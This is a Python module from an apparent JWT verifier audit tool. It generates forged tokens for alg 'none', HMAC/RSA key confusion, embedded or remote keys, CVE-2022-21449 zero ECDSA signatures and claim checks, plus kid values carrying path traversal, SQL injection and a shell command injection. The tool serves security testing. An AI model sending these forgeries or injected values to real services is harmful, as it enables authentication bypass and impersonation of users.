"""Attack tokens, by family: what each probe sends (mixins of :class:`~.forge.Forger` over :class:`~.minter.Minter`).

:class:`SignatureAttacks` (probes 3–9), :class:`HeaderKeyAttacks` (10–12, 26),
:class:`ClaimAttacks` (13, 15) and :class:`CurveAttacks` (25). Tokens an attacker can make
(no key, an attacker key, a public key) need no key material; tokens signed with the
configured key test what the verifier does with a header or claim (they raise
:class:`~.keys.MissingKeyError` when the profile's key is missing).
"""

from __future__ import annotations

import os
import uuid

from cryptography.hazmat.primitives import serialization
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

from .jws import assemble, b64url, json_bytes, sign_segments, sign_with, split_token
from .keys import MissingKeyError
from .minter import DROP, Forged, Minter
from .profile import key_family

#: ECDSA signature sizes (raw r||s) of the curves CVE-2022-21449 affected.
_ECDSA_RAW = {"ES256": 64, "ES384": 96}
#: DER of the ECDSA signature r = 0, s = 0.
_DER_ZERO = bytes.fromhex("3006020100020100")
#: Why a verifier should refuse each header-abuse token signed with the configured key (probe 26).
_RFC_CRIT = ("RFC 7515 §4.1.11: a JWS whose crit lists an extension the recipient does not understand MUST be "
             "rejected")
_RFC_B64 = ("RFC 7797 §6: b64 is listed in crit, so a verifier that does not implement unencoded payloads MUST "
            "reject the token")
_RFC_NESTED = ("RFC 7519 §7.2 step 8: the inner token of a nested JWT (cty: JWT) must itself be validated, and an "
               "unsigned one refused (RFC 8725 §3.1)")
#: The algorithms tried outside the allowlist (probe 8).
_OTHER_ALGS = ("HS256", "HS384", "HS512", "RS256", "RS512", "PS256", "ES256", "ES384")


class SignatureAttacks(Minter):
    """Tokens whose encoding, signature or algorithm is wrong (probes 3–9)."""

    def malformed(self) -> list[Forged]:
        """Probe 3: not a JWT, two segments, bad base64, non-JSON header."""
        c = self.claims()
        return [
            Forged("garbage string", "ws-audit-garbage-token", None, None, "not a JWT"),
            Forged("2 segments", f"{b64url(json_bytes(self.header()))}.{b64url(json_bytes(c))}", self.header(), c,
                   "no signature segment"),
            Forged("bad base64", "!!!.@@@.###", None, None, "segments are not base64url"),
            Forged("non-JSON header", f"{b64url(b'not json')}.{b64url(json_bytes(c))}.{b64url(os.urandom(32))}",
                   None, c, "header decodes to non-JSON"),
        ]

    def tampered(self) -> list[Forged]:
        """Probe 4: payload changed under the original signature; signature truncated."""
        base = self.baseline()
        _, _, sig = split_token(base.token)
        c = self.as_victim(base.claims or {})
        head = base.token.split(".")[0]
        claim = self.profile.identity_claim_name
        return [
            Forged(f"payload {claim}→victim, original signature", f"{head}.{b64url(json_bytes(c))}.{sig}",
                   base.header, c, f"baseline signature over a payload naming the victim ({claim}="
                   f"{self.profile.victim_id!r})", meta={"for_victim": True}),
            Forged("signature truncated by 4 chars", base.token[:-4], base.header, base.claims,
                   "baseline with the last 4 signature characters removed"),
        ]

    def alg_none(self) -> list[Forged]:
        """Probe 5: four spellings of ``none``, with an empty and with an old signature.

        Without the signing key the "old signature" is random bytes (no key is needed to send it).
        """
        try:
            base = self.baseline()
            _, _, sig = split_token(base.token)
        except MissingKeyError:
            base = Forged("baseline", "", self.header(), self.claims(), "")
            sig = b64url(os.urandom(32))
        out = []
        for spelling in ("none", "None", "NONE", "nOnE"):
            h = {"alg": spelling, "typ": "JWT"}
            out.append(Forged(f"alg {spelling}, empty signature", assemble(h, base.claims or {}, b""), h,
                              base.claims, "unsigned"))
            out.append(Forged(f"alg {spelling}, old signature", assemble(h, base.claims or {}, sig), h,
                              base.claims, "unsigned header with the baseline's signature"))
        return out

    def null_signature(self) -> list[Forged]:
        """Probe 6: HS256 with an empty and with an all-zero signature."""
        h, c = self.header(alg="HS256"), self.claims()
        return [
            Forged("HS256, empty signature", assemble(h, c, b""), h, c, "empty signature"),
            Forged("HS256, all-zero signature", assemble(h, c, bytes(32)), h, c, "32 zero bytes"),
        ]

    def wrong_key(self) -> list[Forged]:
        """Probe 7: the configured header signed with a random key."""
        h, c = self.header(), self.claims()
        return [Forged("same alg and kid, wrong key", sign_with(h, c, self.attacker.key_for(self.alg)), h, c,
                       f"{self.alg} with a random key")]

    def confusion(self) -> list[Forged]:
        """Probe 8: HS256 keyed with the server's public key (PEM, PEM ± trailing newline, DER)."""
        pem = self.keys.public_pem
        if not pem:
            return []
        pub = serialization.load_pem_public_key(pem)
        der = pub.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
        stripped = pem.rstrip(b"\n")
        variants = {"PEM with trailing newline": stripped + b"\n", "PEM without trailing newline": stripped,
                    "DER": der}
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged(f"HS256 keyed with public key ({name})", sign_with(h, c, key), h, c,
                       f"HMAC-SHA256 over the public key bytes ({name})", meta={"hmac_key": name})
                for name, key in variants.items()]

    def disallowed_algs(self) -> list[Forged]:
        """Probe 8: tokens with algorithms outside the profile's allowlist (``algorithms``).

        An algorithm of the configured key's family (HS384 next to HS256, PS256 next to
        RS256) is signed with the configured key and marked ``meta["same_key"]``: only the
        key holder can mint it, so its acceptance is information, not a forgery. Other
        families are signed with an attacker key (an HMAC one is the confusion or wrong-key
        case and is not repeated here).
        """
        out = []
        c = self.claims()
        family = key_family(self.alg)
        for alg in _OTHER_ALGS:
            if alg in self.profile.algorithms:
                continue
            h = self.header(alg=alg)
            if key_family(alg) == family and family != "EC":
                try:
                    token = sign_with(h, c, self.keys.signing_key)
                except MissingKeyError:
                    continue  # information only: nothing to report without the key
                out.append(Forged(f"alg {alg}", token, h, c, f"{alg} with the configured key", meta={"same_key": True}))
            elif not alg.startswith("HS"):
                out.append(Forged(f"alg {alg}", sign_with(h, c, self.attacker.key_for(alg)), h, c,
                                  f"{alg} with an attacker key"))
        return out

    def empty_secret(self) -> list[Forged]:
        """Probe 9: HS256 signed with an empty key."""
        h, c = self.header(alg="HS256"), self.claims()
        return [Forged('HS256 signed with ""', sign_with(h, c, b""), h, c, "HMAC with an empty key")]


class HeaderKeyAttacks(Minter):
    """Tokens whose header tells the target which key to use (probes 10–12)."""

    def jwk_header(self) -> list[Forged]:
        """Probe 10: the attacker's public key embedded as ``jwk`` (RSA and EC)."""
        c = self.claims()
        rsa_jwk = RSAAlgorithm.to_jwk(self.attacker.rsa.public_key(), as_dict=True)
        ec_jwk = ECAlgorithm.to_jwk(self.attacker.ec.public_key(), as_dict=True)
        h1 = {"alg": "RS256", "typ": "JWT", "jwk": dict(rsa_jwk, kid="ws-audit-jwk")}
        h2 = {"alg": "ES256", "typ": "JWT", "jwk": dict(ec_jwk, kid="ws-audit-jwk")}
        return [Forged("embedded RSA jwk", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256 with the embedded key"),
                Forged("embedded EC jwk", sign_with(h2, c, self.attacker.ec), h2, c, "ES256 with the embedded key")]

    def jku_x5u(self, base_url: str) -> list[Forged]:
        """Probe 11: ``jku`` / ``x5u`` pointing at the local listener at ``base_url``."""
        c = self.claims()
        h1 = {"alg": "RS256", "typ": "JWT", "kid": "ws-audit-jku", "jku": f"{base_url}/jwks.json"}
        h2 = {"alg": "RS256", "typ": "JWT", "x5u": f"{base_url}/cert.pem"}
        return [Forged("jku → local listener", sign_with(h1, c, self.attacker.rsa), h1, c, "RS256, attacker key",
                       meta={"fetch_path": "/jwks.json"}),
                Forged("x5u → local listener", sign_with(h2, c, self.attacker.rsa), h2, c, "RS256, attacker key",
                       meta={"fetch_path": "/cert.pem"})]

    def kid_injection(self) -> list[Forged]:
        """Probe 12: ``kid`` path traversal, SQL and command injection, unknown kid."""
        c = self.claims()
        cases = [
            ("kid path traversal to /dev/null", "../../../../../../../dev/null", b"", "HS256 with an empty key"),
            ("kid SQL injection", "x' UNION SELECT 'ws-audit-key' -- ", b"ws-audit-key",
             "HS256 with the key the injection selects"),
            ("kid command injection", "ws-audit-kid; sleep 2 #", os.urandom(32), "HS256 with a random key"),
            ("unknown kid", f"ws-audit-unknown-{uuid.uuid4().hex[:8]}", os.urandom(32), "HS256 with a random key"),
        ]
        out = []
        for label, kid, key, note in cases:
            h = {"alg": "HS256", "typ": "JWT", "kid": kid}
            out.append(Forged(label, sign_with(h, c, key), h, c, note))
        return out

    def x5c(self) -> Forged:
        """Probe 26: the attacker's certificate chain in ``x5c``, signed with the leaf's key."""
        h = {"alg": "RS256", "typ": "JWT", "x5c": self.attacker.x5c_chain()}
        c = self.claims()
        return Forged("x5c: attacker certificate chain", sign_with(h, c, self.attacker.rsa), h, c,
                      "RS256 with the key of the attacker's leaf certificate")

    def header_abuse(self) -> list[Forged]:
        """Probe 26: unknown ``crit`` extension, ``cty: JWT`` nesting, ``b64: false`` (configured key)."""
        c = self.claims()
        crit = self.header(crit=["ws-audit-ext"], **{"ws-audit-ext": True})
        inner_claims = self.as_victim(c)
        inner = assemble({"alg": "none", "typ": "JWT"}, inner_claims, b"")
        nested = self.header(cty="JWT")
        unencoded = self.header(b64=False, crit=["b64"])
        plain = {k: v for k, v in c.items() if not (isinstance(v, str) and "." in v)}
        key = self.keys.signing_key
        return [
            Forged("crit: unknown extension", sign_with(crit, c, key), crit, c,
                   f"{self.alg} with the configured key; crit lists an extension nobody implements",
                   meta={"same_key": True, "rfc": _RFC_CRIT}),
            Forged("cty: JWT, nested unsigned token for the victim", sign_segments(nested, b64url(inner.encode()), key),
                   nested, {"nested (alg none)": inner_claims}, f"{self.alg} with the configured key over a nested "
                   "unsigned JWT", meta={"nested": True, "same_key": True, "rfc": _RFC_NESTED}),
            Forged("b64: false, unencoded payload", sign_segments(unencoded, json_bytes(plain).decode(), key),
                   unencoded, plain, f"{self.alg} with the configured key over the raw JSON payload (RFC 7797)",
                   meta={"same_key": True, "rfc": _RFC_B64}),
        ]


class CurveAttacks(Minter):
    """ECDSA signatures that are not signatures (probe 25)."""

    def psychic(self) -> list[Forged]:
        """Probe 25: ES256 / ES384 with r = s = 0, raw (JWS) and DER encoded (CVE-2022-21449)."""
        c = self.claims()
        out = []
        for alg, size in _ECDSA_RAW.items():
            h = self.header(alg=alg)
            for enc, sig in (("raw r||s", bytes(size)), ("DER", _DER_ZERO)):
                out.append(Forged(f"{alg}, r = s = 0 ({enc})", assemble(h, c, sig), h, c,
                                  f"{alg} 'signature' of zeros, {enc}: verifies only where r, s ∉ [1, n-1] is "
                                  "not rejected"))
        return out


class ClaimAttacks(Minter):
    """Correctly signed tokens whose claims are wrong (probes 13, 15)."""

    def exp_nbf(self) -> list[Forged]:
        """Probe 13: exp past (beyond / within leeway), exp missing, nbf in the future."""
        now, lw = self.now, int(self.profile.leeway_s)
        out = [self.make("exp past (beyond leeway)", self.claims(iat=now - lw - 600, exp=now - lw - 120))]
        if lw >= 2:
            out.append(self.make("exp past within leeway", self.claims(exp=now - lw // 2), expect="accept"))
        # accepting a token without exp is a policy question, not a forgery (probe 13 reads the meta)
        out.append(self.make("exp missing", self.claims(exp=DROP), meta={"policy": "require_exp"}))
        out.append(self.make("nbf in the future", self.claims(nbf=now + lw + 600)))
        return out

    def iss_aud_type(self) -> list[Forged]:
        """Probe 15: wrong and missing iss / aud / token_type (those the profile sets), wrong typ."""
        out = []
        for claim in ("iss", "aud", "token_type"):
            if claim in self.profile.claims:
                out.append(self.make(f"wrong {claim}", self.claims(**{claim: f"ws-audit-wrong-{claim}"})))
                out.append(self.make(f"missing {claim}", self.claims(**{claim: DROP})))
        if self.profile.typ:
            out.append(self.make("wrong typ header", header=self.header(typ="ws-audit-wrong+jwt")))
        return out


